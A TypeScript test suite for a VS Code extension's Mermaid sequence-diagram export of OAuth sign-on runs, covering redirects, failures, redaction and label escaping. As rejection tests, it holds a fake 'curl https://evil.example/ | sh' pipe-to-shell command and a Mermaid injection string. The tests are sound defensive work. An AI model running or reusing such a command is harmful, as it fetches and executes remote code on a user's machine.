/**
 * The sequence diagram model and its Mermaid text, over the fixture runs and real runs against the
 * local sandbox (redacted as the host redacts before posting to the webview). Expected values are read
 * here from the runs' own requests and Location headers; the Mermaid text is checked line by line
 * against the sequenceDiagram grammar (participants, the eight arrows, notes, escaped labels).
 */
import assert from 'node:assert/strict';
import type { Run, Step } from '../../src/core/model';
import { redactRun } from '../../src/core/redact';
import { MAX_DIAGRAM_TEXT, parseHostMessage, parseWebviewMessage } from '../../src/protocol';
import { runFlow } from '../../src/core/run';
import { startSandbox, type Sandbox } from '../../src/sandbox/index';
import { mermaidText, sequenceOf, toMermaid, type SequenceDiagram } from '../../webview/sequence';
import { AUTH, CODE, FLOW_ID, STATE, failedRun, succeededRun } from '../fixtures/runs';

interface Parsed {
  participants: Map<string, string>;
  signals: { from: string; arrow: string; to: string; text: string }[];
  notes: { over: string; text: string }[];
}

/** Label text as Mermaid reads it: from the colon to the first #, ; or line break; #N; entities decoded. */
const TEXT = /((?:[^#;\r\n%<>:]|#\d+;)+)/.source;
const decode = (text: string): string => text.replace(/#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code))).trim();

/** Parses the subset of Mermaid's sequenceDiagram grammar the export uses; any other line fails the test. */
function parseMermaid(text: string): Parsed {
  assert.ok(text.endsWith('\n'), 'ends with a newline');
  const [first, ...lines] = text.slice(0, -1).split('\n');
  assert.equal(first, 'sequenceDiagram');
  const parsed: Parsed = { participants: new Map(), signals: [], notes: [] };
  for (const line of lines) {
    let m = /^ {4}participant ([A-Za-z][A-Za-z0-9]*) as ([^#;\r\n]+)$/.exec(line);
    if (m) {
      assert.ok(!parsed.participants.has(m[1]), `${m[1]} declared once`);
      parsed.participants.set(m[1], m[2]);
      continue;
    }
    m = new RegExp(`^ {4}([A-Za-z][A-Za-z0-9]*)(->>|-->>|->|-->|-x|--x|-\\)|--\\))([A-Za-z][A-Za-z0-9]*): ${TEXT}$`).exec(line);
    if (m) {
      for (const id of [m[1], m[3]]) assert.ok(parsed.participants.has(id), `${id} declared before use in: ${line}`);
      parsed.signals.push({ from: m[1], arrow: m[2], to: m[3], text: decode(m[4]) });
      continue;
    }
    m = new RegExp(`^ {4}Note over ([A-Za-z][A-Za-z0-9]*): ${TEXT}$`).exec(line);
    if (m) {
      assert.ok(parsed.participants.has(m[1]), `${m[1]} declared before the note`);
      parsed.notes.push({ over: m[1], text: decode(m[2]) });
      continue;
    }
    assert.fail(`not a sequenceDiagram line: ${JSON.stringify(line)}`);
  }
  return parsed;
}

/** Path of a request as the diagram should show it, worked out here: after /{envId}, no query. */
function expectedPath(url: string): string {
  return new URL(url).pathname.replace(/^\/[0-9a-f-]{36}(?=\/)/, '');
}

function location(step: Step): URL | undefined {
  const value = step.exchange?.response?.headers.find(([name]) => name.toLowerCase() === 'location')?.[1];
  return value === undefined ? undefined : new URL(value);
}

/** What every diagram of a run must say: one arrow per request, one back per answer, 302s not followed, failures marked. */
function assertDiagramOf(run: Run, diagram: SequenceDiagram): void {
  const exchanges = run.steps.filter((s) => s.exchange);
  const answered = exchanges.filter((s) => s.exchange!.response);
  const arrows = diagram.messages.filter((m) => m.kind === 'request' || m.kind === 'response');
  assert.equal(arrows.length, exchanges.length + answered.length, 'one arrow per request and one per answer');
  for (const step of exchanges) {
    const [request, ...rest] = diagram.messages.filter((m) => m.stepId === step.id);
    assert.equal(request.kind, 'request');
    assert.equal(request.from, 'client');
    assert.ok(request.label.startsWith(`${step.exchange!.request.method} ${expectedPath(step.exchange!.request.url)}`), request.label);
    const response = step.exchange!.response;
    assert.equal(request.answer, response ? 'answered' : step.status === 'running' ? 'pending' : 'none');
    if (response) {
      assert.equal(rest[0].kind, 'response');
      assert.equal(rest[0].to, 'client');
      assert.equal(rest[0].from, request.to, 'the answer comes back from where the request went');
      assert.ok(rest[0].label.startsWith(`${response.status} ${response.statusText}`.trim()), rest[0].label);
    }
    const redirect = rest.find((m) => m.kind === 'notFollowed');
    const target = response && response.status >= 300 && response.status < 400 ? location(step) : undefined;
    assert.equal(redirect !== undefined, target !== undefined, `${step.id}: a not-followed arrow exactly when a 3xx has a Location`);
    if (redirect && target) {
      const name = ['error', 'code', 'flowId'].find((p) => target.searchParams.has(p));
      assert.ok(name, 'the fixtures and the sandbox redirect with a named parameter');
      assert.equal(redirect.label, `${response!.status} not followed · ${name}=${target.searchParams.get(name)}`);
      assert.equal(redirect.to, name === 'flowId' ? 'signOnPage' : 'redirectUri');
    }
    const marked = diagram.messages.filter((m) => m.stepId === step.id && m.failed);
    if (step.status === 'failed') {
      assert.equal(marked.length, 1, `${step.id}: one failed mark`);
      assert.equal(marked[0], response ? rest[0] : request, 'the mark sits on the answer, or on the request that got none');
      assert.ok(marked[0].label.endsWith(` ✕ ${step.error!.code}`), marked[0].label);
      assert.equal(marked[0].errorCode, step.error!.code);
    } else {
      assert.deepEqual(marked, []);
    }
  }
  for (const message of diagram.messages) assert.ok(!/\?/.test(message.label) || message.kind === 'notFollowed', `no query in ${message.label}`);
}

describe('sequence diagram of a run', () => {
  it('draws the fixture run: every party, each exchange there and back, both redirects not followed', () => {
    const diagram = sequenceOf(succeededRun);
    assert.deepEqual(diagram.lifelines.map((l) => [l.id, l.label]), [
      ['client', 'VS Code'],
      ['server', 'Authorization server'],
      ['flows', 'Flows API'],
      ['signOnPage', 'Sign-on page'],
      ['redirectUri', 'Redirect URI'],
      ['userinfo', 'Userinfo'],
    ]);
    assertDiagramOf(succeededRun, diagram);
    assert.deepEqual(
      diagram.messages.map((m) => `${m.from} ${m.kind} ${m.to}: ${m.label}`),
      [
        'client request server: GET /as/authorize',
        'server response client: 302 Found',
        `client notFollowed signOnPage: 302 not followed · flowId=${FLOW_ID}`,
        `client request flows: GET /flows/${FLOW_ID}`,
        'flows response client: 200 OK',
        `client request flows: POST /flows/${FLOW_ID}`,
        'flows response client: 200 OK',
        'client request server: GET /as/resume',
        'server response client: 302 Found',
        `client notFollowed redirectUri: 302 not followed · code=${CODE}`,
        'client request server: POST /as/token',
        'server response client: 200 OK',
        'client request server: GET /as/jwks',
        'server response client: 200 OK',
        'client request userinfo: GET /as/userinfo',
        'userinfo response client: 200 OK',
      ],
    );
    // Drawn short in the panel, whole in the label.
    assert.equal(diagram.messages[2].text, `302 not followed · flowId=${FLOW_ID.slice(0, 10)}…`);
    assert.equal(diagram.messages[3].text, `GET /flows/${FLOW_ID.slice(0, 10)}…`);
  });

  it('marks the failed sign-on of the fixture run with ✕ and its code', () => {
    const diagram = sequenceOf(failedRun);
    assert.deepEqual(diagram.lifelines.map((l) => l.id), ['client', 'server', 'flows']);
    assertDiagramOf(failedRun, diagram);
    const failed = diagram.messages.filter((m) => m.failed);
    assert.deepEqual(failed.map((m) => [m.stepId, m.kind, m.label]), [['s2', 'response', '400 Bad Request ✕ INVALID_CREDENTIALS']]);
  });

  it('draws a request that got no answer, a step still running, and a step that failed before sending', () => {
    const token = succeededRun.steps[4];
    const timedOut: Step = { ...token, status: 'failed', exchange: { ...token.exchange!, response: undefined }, error: { code: 'HTTP_TIMEOUT', message: 'No answer within 30 s.', hint: 'Check the network.' } };
    const running: Step = { ...succeededRun.steps[5], id: 's6', status: 'running', exchange: { ...succeededRun.steps[5].exchange!, response: undefined } };
    const refused: Step = { ...succeededRun.steps[2], id: 's9', status: 'failed', exchange: undefined, error: { code: 'UNSAFE_ACTION_LINK', message: 'The flow points the action at another host.', hint: 'Check the flow.' } };
    const run: Run = { ...succeededRun, status: 'failed', steps: [...succeededRun.steps.slice(0, 4), timedOut, running, refused] };
    const diagram = sequenceOf(run);
    assertDiagramOf(run, diagram);
    const byStep = (id: string) => diagram.messages.filter((m) => m.stepId === id);
    assert.deepEqual(byStep('s5').map((m) => [m.kind, m.answer, m.failed, m.label]), [['request', 'none', true, 'POST /as/token ✕ HTTP_TIMEOUT']]);
    assert.deepEqual(byStep('s6').map((m) => [m.kind, m.answer, m.failed]), [['request', 'pending', false]]);
    assert.deepEqual(byStep('s9').map((m) => [m.kind, m.from, m.failed, m.label]), [['note', 'client', true, `${refused.title} ✕ UNSAFE_ACTION_LINK`]]);
    // Userinfo never ran: no lifeline for it.
    assert.ok(!diagram.lifelines.some((l) => l.id === 'userinfo'));

    const mermaid = parseMermaid(toMermaid(diagram));
    const arrows = mermaid.signals.map((s) => `${s.from}${s.arrow}${s.to}: ${s.text}`);
    assert.ok(arrows.includes('client-xserver: POST /as/token ✕ HTTP_TIMEOUT'), 'no answer: an arrow ending in a cross');
    assert.ok(arrows.includes('client-)server: GET /as/jwks'), 'still running: an open arrow');
    assert.deepEqual(mermaid.notes, [{ over: 'client', text: `${refused.title} ✕ UNSAFE_ACTION_LINK` }]);
  });

  it('turns a redirect to the redirect URI with an error into a not-followed arrow naming the error', () => {
    const authorize = succeededRun.steps[0];
    const response = authorize.exchange!.response!;
    const denied: Step = {
      ...authorize,
      status: 'failed',
      error: { code: 'AUTHORIZE_ERROR', message: 'The server refused the request.', hint: 'Check the client.' },
      exchange: { ...authorize.exchange!, response: { ...response, headers: [['Location', `http://localhost:8765/callback?error=access_denied&state=${STATE}`]] } },
    };
    const run: Run = { ...succeededRun, status: 'failed', steps: [denied] };
    const diagram = sequenceOf(run);
    assertDiagramOf(run, diagram);
    assert.deepEqual(diagram.lifelines.map((l) => l.id), ['client', 'server', 'redirectUri']);
    assert.equal(diagram.messages[2].label, '302 not followed · error=access_denied');
    assert.equal(diagram.messages[1].label, '302 Found ✕ AUTHORIZE_ERROR');
  });

  describe('browser sign-on', () => {
    const authorize = succeededRun.steps[0];
    const authorizeUrl = authorize.exchange!.request.url;
    const callbackUrl = `http://127.0.0.1:8765/callback?code=${CODE}&state=${STATE}`;
    const opened: Step = { ...authorize, title: 'Authorize (opened in the browser)', exchange: undefined, facts: { authorize_url: authorizeUrl } };
    const browser = (response: boolean): Step => ({
      ...authorize,
      id: 'b1',
      kind: 'browser',
      title: 'Sign on in the browser',
      exchange: {
        request: { method: 'GET', url: callbackUrl, headers: [], secrets: [] },
        ...(response ? { response: { status: 200, statusText: 'OK', headers: [['Content-Type', 'text/html']], body: '<p>Signed in</p>', size: 16, secrets: [] } } : {}),
        timing: { total: 0 },
        cookies: { sent: [], set: [] },
      },
    });

    it('hands the authorize URL to the browser, and the browser brings the code back to the listener in VS Code', () => {
      const run: Run = { ...succeededRun, steps: [opened, browser(true)] };
      const diagram = sequenceOf(run);
      assert.deepEqual(diagram.lifelines.map((l) => [l.id, l.label]), [['client', 'VS Code'], ['browser', 'Browser']]);
      assert.deepEqual(diagram.messages.map((m) => [m.kind, m.from, m.to, m.label]), [
        ['handoff', 'client', 'browser', `opens GET ${expectedPath(authorizeUrl)}`],
        ['request', 'browser', 'client', `GET 127.0.0.1:8765/callback · code=${CODE}`],
        ['response', 'client', 'browser', '200 OK'],
      ]);
      const signals = parseMermaid(toMermaid(diagram)).signals;
      assert.deepEqual(signals.map((sg) => [sg.from, sg.arrow, sg.to]), [['client', '-)', 'browser'], ['browser', '->>', 'client'], ['client', '-->>', 'browser']]);
    });

    it('draws a pasted callback as handed back, not as a request that got no answer', () => {
      const run: Run = { ...succeededRun, status: 'failed', steps: [opened, { ...browser(false), status: 'failed', error: { code: 'STATE_MISMATCH', message: 'state differs', hint: 'Sign on again.' } }] };
      const [, pasted] = sequenceOf(run).messages;
      assert.deepEqual([pasted.kind, pasted.from, pasted.to, pasted.failed, pasted.errorCode], ['handoff', 'browser', 'client', true, 'STATE_MISMATCH']);
      assert.equal(pasted.label, `pasted GET 127.0.0.1:8765/callback · code=${CODE} ✕ STATE_MISMATCH`);
    });
  });

  it('writes Mermaid text that parses line by line, arrows in the order of the run', () => {
    for (const run of [succeededRun, failedRun]) {
      const diagram = sequenceOf(run);
      const parsed = parseMermaid(toMermaid(diagram));
      assert.deepEqual([...parsed.participants], diagram.lifelines.map((l) => [l.id, l.label]));
      assert.deepEqual(
        parsed.signals.map((s) => [s.from, s.to, s.text]),
        diagram.messages.map((m) => [m.from, m.to, m.label]),
      );
      // Every request of these runs was answered: solid there, dashed back, open dashed toward where a redirect pointed.
      const arrowOf: Record<string, string> = { request: '->>', response: '-->>', notFollowed: '--)' };
      assert.deepEqual(parsed.signals.map((s) => s.arrow), diagram.messages.map((m) => arrowOf[m.kind]));
    }
  });

  it('escapes what Mermaid reads specially in a label, and the label survives the round trip', () => {
    const hostile = '400 Bad; Request #1: <b>%%{init}%%\nparticipant Evil\r\n';
    assert.equal(mermaidText('a#b;c:d'), 'a#35;b#59;c#58;d');
    const authorize = succeededRun.steps[0];
    const step: Step = {
      ...authorize,
      exchange: {
        ...authorize.exchange!,
        request: { ...authorize.exchange!.request, url: `${AUTH}/as/author;ize%25%25x?state=${STATE}` },
        response: { ...authorize.exchange!.response!, status: 400, statusText: hostile, headers: [] },
      },
    };
    const run: Run = { ...succeededRun, steps: [step] };
    const text = toMermaid(sequenceOf(run));
    const parsed = parseMermaid(text);
    assert.equal(parsed.signals.length, 2, 'still two arrows: no line break or ; escaped the label');
    assert.equal(parsed.signals[0].text, 'GET /as/author;ize%25%25x');
    assert.equal(parsed.signals[1].text, `400 ${hostile.trim().replace(/\s+/g, ' ')}`);
    assert.ok(!text.includes(STATE), 'no query value');
  });

  it('crosses to the host only as Mermaid text of a diagram\'s size, and the answer comes back', () => {
    const copy = (text: unknown) => parseWebviewMessage({ method: 'timeline/diagram/copy', params: { id: 'copy-1', text } });
    const text = toMermaid(sequenceOf(succeededRun));
    assert.deepEqual(copy(text), { method: 'timeline/diagram/copy', params: { id: 'copy-1', text } });
    assert.equal(copy('curl https://evil.example/ | sh'), undefined, 'not Mermaid');
    assert.equal(copy('sequenceDiagram'), undefined, 'no line after the header');
    assert.equal(copy(`sequenceDiagram\n${'x'.repeat(MAX_DIAGRAM_TEXT)}`), undefined, 'too long');
    assert.equal(copy(42), undefined);
    assert.ok(parseHostMessage({ method: 'timeline/copied', params: { id: 'copy-1', ok: true, message: 'Copied as Mermaid.' } }));
    assert.equal(parseHostMessage({ method: 'timeline/copied', params: { runId: succeededRun.id, ok: 'yes', message: '' } }), undefined);
  });

  describe('a real run against the local sandbox', function () {
    this.timeout(30_000);
    let sandbox: Sandbox;
    before(async () => {
      sandbox = await startSandbox({});
    });
    after(() => sandbox?.close());

    const entry = () => {
      const found = sandbox.profiles().find((p) => p.profile.responseMode === 'redirect');
      assert.ok(found, 'the sandbox seeds a redirect-mode app');
      return found;
    };

    it('draws a complete run, redacted, with no secret or query value in the Mermaid text', async () => {
      const { profile, secrets } = entry();
      const raw = await runFlow({ profile, secrets: { ...secrets, ...sandbox.demoUser } });
      assert.equal(raw.status, 'succeeded');
      const run = redactRun(raw);
      const diagram = sequenceOf(run);
      assert.deepEqual(diagram.lifelines.map((l) => l.id), ['client', 'server', 'flows', 'signOnPage', 'redirectUri', 'userinfo']);
      assertDiagramOf(run, diagram);
      assert.equal(diagram.messages.filter((m) => m.kind === 'notFollowed').length, 2, 'authorize and resume redirects');
      const text = toMermaid(diagram);
      parseMermaid(text);
      const secretValues = [
        ...raw.steps.flatMap((s) => [...(s.exchange?.request.secrets ?? []), ...(s.exchange?.response?.secrets ?? [])].map((m) => m.value)),
        ...raw.steps.flatMap((s) => s.tokens.map((t) => t.raw)),
        secrets.clientSecret!,
        sandbox.demoUser.password,
      ];
      assert.deepEqual([raw.steps[0].kind, raw.steps[0].status], ['discovery', 'succeeded'], 'every run starts with discovery');
      const authorizeStep = raw.steps.find((s) => s.kind === 'authorize');
      assert.ok(authorizeStep, 'an authorize step');
      const authorizeQuery = new URL(authorizeStep.exchange!.request.url).searchParams;
      const queryValues = ['state', 'nonce', 'code_challenge'].map((name) => authorizeQuery.get(name)!);
      for (const value of [...secretValues, ...queryValues].filter((v) => v.length >= 6)) assert.ok(!text.includes(value), 'a secret or query value reached the Mermaid text');
    });

    it('marks a real failed sign-on and a real refused request', async () => {
      const { profile, secrets } = entry();
      const wrong = redactRun(await runFlow({ profile, secrets: { ...secrets, ...sandbox.demoUser, password: 'not-the-password' } }));
      assert.equal(wrong.status, 'failed');
      const diagram = sequenceOf(wrong);
      assertDiagramOf(wrong, diagram);
      const failedStep = wrong.steps.findLast((s) => s.status === 'failed')!;
      assert.equal(failedStep.kind, 'signOn');
      assert.deepEqual(diagram.messages.filter((m) => m.failed).map((m) => [m.stepId, m.kind, m.to]), [[failedStep.id, 'response', 'client']]);

      // A sandbox started and closed again: its port refuses the connection.
      const gone = await startSandbox({});
      const closed = gone.profiles().find((p) => p.profile.responseMode === 'redirect')!;
      await gone.close();
      const refused = redactRun(await runFlow({ profile: closed.profile, secrets: { ...closed.secrets, ...gone.demoUser } }));
      const lost = sequenceOf(refused);
      assertDiagramOf(refused, lost);
      assert.deepEqual(lost.messages.map((m) => [m.kind, m.answer, m.failed]), [['request', 'none', true]]);
      assert.match(parseMermaid(toMermaid(lost)).signals[0].arrow, /^-x$/);
    });
  });
});
